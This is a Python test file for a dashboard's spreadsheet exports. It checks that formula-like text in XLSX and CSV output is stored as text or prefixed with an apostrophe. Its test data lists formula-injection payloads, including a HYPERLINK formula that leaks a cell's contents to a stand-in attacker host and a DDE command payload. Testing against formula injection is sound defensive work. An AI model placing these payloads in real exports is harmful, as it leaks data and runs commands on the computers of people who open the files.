"""Text that a spreadsheet would run as a formula is written as text in every XLSX and CSV we
make (the pack's workbook, a chart's download, the API's CSV); numbers stay numbers."""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest
from openpyxl import load_workbook

from dashboard.exports.snapshot import Pack, panel_snapshot
from dashboard.exports.workbook import panel_workbook_bytes, workbook_bytes
from indicators.serialize import to_csv
from tests.exports.conftest import GENERATED_AT, YEAR_2024

EVIL = ('=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0",
        "-2+3", "@SUM(1+1)", "\tab", "\rcarriage")


@pytest.fixture(scope="module")
def poisoned(real_engine):
    """A real chart whose mission codes have been replaced by formulas, with a negative value."""
    snapshot = panel_snapshot("women", "share-by-mission", YEAR_2024, real_engine)
    frame = snapshot.frame.head(len(EVIL)).copy()
    frame["mission"] = list(EVIL)
    frame.loc[frame.index[0], "value"] = -12.5
    return dataclasses.replace(snapshot, frame=frame)


def all_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_a_pack_title_that_is_a_formula_is_stored_as_text(poisoned):
    pack = Pack(EVIL[0], YEAR_2024, [poisoned], GENERATED_AT)
    cells = all_cells(workbook_bytes(pack))
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    assert set(EVIL) <= texts  # shown as typed, not altered
    assert -12.5 in {cell.value for cell in cells if cell.data_type == "n"}


def test_a_chart_download_workbook_has_no_formulas(poisoned):
    cells = all_cells(panel_workbook_bytes(poisoned, GENERATED_AT))
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    numbers = [cell.value for cell in cells if cell.data_type == "n"]
    assert -12.5 in numbers


def test_csv_cells_that_start_a_formula_get_an_apostrophe(poisoned):
    rows = list(csv.DictReader(io.StringIO(to_csv(poisoned.frame, poisoned.indicator),
                                                newline="")))
    assert [row["mission"] for row in rows] == ["'" + text for text in EVIL]
    assert rows[0]["value"] == "-12.5"  # a negative number is still a number
    assert float(rows[1]["value"]) > 0


def test_the_api_csv_is_written_the_same_way(poisoned):
    # The API's CSV is serialize.to_csv; headers given (the download's) are treated the same.
    text = to_csv(poisoned.frame, poisoned.indicator, headers={"mission": "=1+1"})
    header = next(csv.reader(io.StringIO(text)))
    assert header[header.index("'=1+1")] == "'=1+1"
